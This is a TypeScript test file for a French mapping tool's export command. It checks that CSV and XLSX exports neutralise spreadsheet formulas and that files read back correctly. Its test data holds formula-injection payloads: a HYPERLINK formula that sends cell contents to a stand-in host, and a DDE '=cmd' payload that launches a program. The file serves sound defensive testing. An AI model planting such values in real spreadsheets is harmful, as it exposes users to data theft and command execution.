// npm run export in every format, on a project of three scenarios whose names start with
// formula characters: exit codes, French messages, formulas neutralised in every CSV and
// stored as text in every XLSX, and each file read back (CSV, XLSX, project, GeoJSON, codes).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { readSheet } from "read-excel-file/universal";
import { afterAll, beforeAll, expect, it } from "vitest";
import { main as exportMain } from "../../scripts/export.ts";
import { PROJECT_SCHEMA, type Project } from "../../src/domain/model.ts";
import type { WorkspaceContent } from "../../src/domain/workspace.ts";
import { importCsv } from "../../src/io/csv-import.ts";
import { parseCsv } from "../../src/io/csv-text.ts";
import { EXPORT_FORMATS } from "../../src/io/export-registry.ts";
import { NO_POLYGON_LABEL } from "../../src/io/export-tables.ts";
import { parseProjectFile, serializeWorkspace } from "../../src/io/project-file.ts";
import { importXlsx } from "../../src/io/xlsx-import.ts";
import { runCli } from "../helpers/cli.ts";
import { describeWithGeo, loadBuiltTerritory } from "../helpers/territory.ts";

/** Names a spreadsheet would run as formulas if written as they are. */
const FORMULAS = ['=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")', "+33 Dupont", "-Moins Martin", "@Arobase Durand", "=cmd|' /C calc'!A0"];

function project(nom: string): Project {
  return {
    schema: PROJECT_SCHEMA,
    nom,
    miseAJour: "2026-01-15",
    structures: [
      { id: "S1", nom: FORMULAS[0]!, type: "plie", communeSiege: "21231" },
      { id: "S2", nom: "@Structure", type: "association", communeSiege: "58194" },
    ],
    facilitateurs: [
      { id: "F1", structure: "S1", nom: FORMULAS[1]!, etp: 1, role: "facilitateur", statut: "en-poste", contacts: [], miseAJour: "2026-01-10", perimetre: [{ niveau: "departement", code: "21" }] },
      { id: "F2", structure: "S2", nom: FORMULAS[2]!, etp: 0.5, role: "facilitateur", statut: "en-poste", contacts: [], miseAJour: "2026-01-10", perimetre: [{ niveau: "commune", code: "58194" }] },
      { id: "F3", structure: "S2", nom: FORMULAS[3]!, etp: 0.8, role: "facilitateur", statut: "en-poste", contacts: [], miseAJour: "2026-01-10", perimetre: [{ niveau: "departement", code: "14" }] },
      { id: "F4", structure: "S1", nom: FORMULAS[4]!, etp: 1, role: "coordinateur-regional", statut: "en-poste", contacts: [], miseAJour: "2026-01-10", perimetre: [{ niveau: "region", code: "27" }] },
    ],
    acheteurs: [{ id: "A1", nom: "=SUM(1;2)", type: "prefecture", commune: "21231" }],
    grandsProjets: [],
  };
}

const workspace = (): WorkspaceContent => {
  const base = project("=Projet national");
  return {
    nom: base.nom,
    activeScenarioId: "scenario-3",
    scenarios: [
      { id: "scenario-1", nom: "Situation actuelle", project: base },
      { id: "scenario-2", nom: "+Variante", project: { ...base, facilitateurs: base.facilitateurs.slice(0, 2) } },
      { id: "scenario-3", nom: "-Autre", project: { ...base, seuils: { etpPour100000Habitants: 2 } } },
    ],
  };
};

/** A cell of a CSV line that starts like a formula, unguarded (after an optional opening quote). */
const UNGUARDED = /(?:^|;)"?[=+\-@\t\r]/m;

describeWithGeo("npm run export", () => {
  let dir: string;
  let file: string;
  const out = (name: string) => join(dir, name);
  const run = (args: string[]) => runCli(exportMain, [file, ...args]);

  beforeAll(() => {
    loadBuiltTerritory();
    dir = mkdtempSync(join(tmpdir(), "export-"));
    file = out("projet.json");
    writeFileSync(file, serializeWorkspace(workspace()));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it.each(EXPORT_FORMATS)("écrit le format %s (code 0), sans formule active", async (format) => {
    const target = out(`sortie-${format}`);
    const ran = await run(["--format", format, "--out", target, "--territoire", "region-27"]);
    expect(ran.stderr).toContain(`${format} écrit dans ${target}`);
    expect(ran.status).toBe(0);
    const bytes = new Uint8Array(readFileSync(target));
    if (format.endsWith("-csv")) {
      const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
      expect(text.startsWith("\uFEFF")).toBe(true);
      for (const line of text.slice(1).split("\r\n")) expect(UNGUARDED.test(line), line).toBe(false);
    }
    if (format.endsWith("-xlsx")) {
      const rows = (await readSheet(bytes.slice().buffer)) as unknown[][];
      // Text cells hold the names as written: a formula would come back as its result, or nothing.
      const cells = rows.flat().filter((cell): cell is string => typeof cell === "string");
      if (format === "perimetres-xlsx") expect(cells).toEqual(expect.arrayContaining([FORMULAS[0], FORMULAS[1], FORMULAS[4]]));
      if (format === "communes-xlsx") expect(cells).toEqual(expect.arrayContaining([FORMULAS[1], FORMULAS[2]]));
    }
  });

  it("relit le fichier projet : les trois scénarios, leurs noms et leurs réglages ; --scenario rend un scénario actif", async () => {
    const target = out("tout.json");
    expect((await run(["--format", "projet", "--out", target, "--scenario", "scenario-2"])).status).toBe(0);
    const read = parseProjectFile(readFileSync(target, "utf8"), loadBuiltTerritory().index);
    if (!read.ok) throw new Error("fichier relu invalide");
    const expected = workspace();
    expect(read.scenarios).toEqual(expected.scenarios);
    expect(read.activeScenarioId).toBe("scenario-2");
  });

  it("relit les périmètres en CSV et en XLSX : les mêmes facilitateurs et zones", async () => {
    const territory = loadBuiltTerritory();
    const expected = project("x").facilitateurs.map((f) => [f.nom, f.etp, f.perimetre]);
    for (const format of ["perimetres-csv", "perimetres-xlsx"] as const) {
      const target = out(`rt-${format}`);
      expect((await run(["--format", format, "--out", target, "--scenario", "scenario-1"])).status).toBe(0);
      const bytes = new Uint8Array(readFileSync(target));
      const read = format === "perimetres-csv" ? importCsv(bytes, territory, { file: "p.csv" }) : await importXlsx(bytes, territory, { file: "p.xlsx" });
      expect(read.summary.errors).toBe(0);
      expect(read.facilitateurs.map((f) => [f.nom, f.etp, f.perimetre])).toEqual(expected);
      expect(read.structures.map((s) => s.nom)).toEqual([FORMULAS[0], "@Structure"]);
    }
  });

  it("liste chaque commune du territoire avec son statut, et dit celles sans contour", async () => {
    const territory = loadBuiltTerritory();
    const target = out("communes-14.csv");
    const ran = await run(["--format", "communes-csv", "--out", target, "--territoire", "departement-14"]);
    expect(ran.status).toBe(0);
    expect(ran.stderr).toContain("14666 Sannerville");
    const parsed = parseCsv(readFileSync(target, "utf8").slice(1));
    if (!parsed.ok) throw new Error(parsed.message);
    const [header, ...rows] = parsed.rows.map((row) => row.cells);
    expect(header).toEqual(["Code INSEE", "Commune", "Département", "Région", "EPCI", "Population", "Statut", "Facilitateurs", "Contour"]);
    expect(rows.length).toBe(territory.reference.communes.filter((c) => c.departement === "14").length);
    const sannerville = rows.find((row) => row[0] === "14666")!;
    // 0.8 ETP for the whole Calvados: short of capacity, as every commune of the département.
    expect(sannerville.slice(6)).toEqual(["Zone blanche : capacité insuffisante", FORMULAS[3], NO_POLYGON_LABEL]);
  });

  it("indicateurs en XLSX : le territoire et ses départements, la feuille Source dit le projet et la date", async () => {
    const target = out("indicateurs.xlsx");
    expect((await run(["--format", "indicateurs-xlsx", "--out", target, "--territoire", "region-27"])).status).toBe(0);
    const bytes = readFileSync(target);
    const buffer = () => bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length);
    const indicators = (await readSheet(buffer(), 1)) as unknown[][];
    expect(indicators.slice(1).map((row) => [row[0], row[1]])).toEqual([["region", "27"], ...["21", "25", "39", "58", "70", "71", "89", "90"].map((code) => ["departement", code])]);
    const source = (await readSheet(buffer(), "Source")) as unknown[][];
    expect(source).toEqual(expect.arrayContaining([["Projet", "=Projet national"], ["Scénario", "-Autre"], ["Données au", "2026-01-15"], ["Territoire", "Bourgogne-Franche-Comté"]]));
  });

  it("refuse en français, avec un code non nul : format, scénario, territoire inconnus, fichier invalide", async () => {
    const unknownFormat = await run(["--format", "pdf", "--out", out("x")]);
    expect([unknownFormat.status, unknownFormat.stderr]).toEqual([2, expect.stringContaining("format inconnu « pdf »")]);
    const unknownScenario = await run(["--format", "codes", "--out", out("x"), "--scenario", "scenario-9"]);
    expect([unknownScenario.status, unknownScenario.stderr]).toEqual([2, expect.stringContaining("scénario inconnu « scenario-9 »")]);
    const unknownTerritory = await run(["--format", "codes", "--out", out("x"), "--territoire", "region-99"]);
    expect([unknownTerritory.status, unknownTerritory.stderr]).toEqual([2, expect.stringContaining("région 99 inconnu")]);
    const noOut = await run(["--format", "codes"]);
    expect([noOut.status, noOut.stderr]).toEqual([2, expect.stringContaining("--out manquant")]);
    const broken = out("casse.json");
    writeFileSync(broken, '{"schema":"carto-clause-sociale/projet@2","nom":"x","structures":[],"facilitateurs":[{"id":1}]}');
    const invalid = await runCli(exportMain, [broken, "--format", "codes", "--out", out("x")]);
    expect([invalid.status, invalid.stderr]).toEqual([1, expect.stringContaining("fichier projet invalide")]);
  });
});
